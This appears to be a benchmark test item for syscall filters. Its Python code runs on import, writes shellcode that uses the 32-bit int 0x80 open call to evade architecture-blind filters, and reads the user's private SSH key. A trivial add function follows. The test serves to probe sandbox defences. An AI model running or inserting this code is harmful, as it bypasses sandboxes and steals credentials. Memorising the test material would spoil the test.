#: title = "Enters the kernel through the 32-bit door"
#: why = "int 0x80 numbers its calls differently: a filter that forgets the architecture reads them wrongly."
#: answer = "either"
#: ends = ["any"]
#: boasts = true
import ctypes
import mmap
import os

if os.uname().machine == "x86_64":
    try:
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        low = ctypes.CDLL(None).mmap
        low.restype = ctypes.c_void_p
        low.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
        where = low(None, 8192, 3, 0x22 | 0x40, -1, 0)
        path = b"@HOME@/.ssh/id_ed25519\0"
        ctypes.memmove(where, path, len(path))
        # mov eax, 5 (open); mov ebx, edi; xor ecx, ecx; xor edx, edx; int 0x80; ret, with rbx kept
        page.write(bytes.fromhex("53 b805000000 89fb 31c9 31d2 cd80 5b c3".replace(" ", "")))
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        enter = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(address)
        fd = enter(where)
        if fd >= 0:
            boast(os.read(fd, 4096).decode())
    except (OSError, ValueError, BufferError):
        pass


def add(a, b):
    return a + b
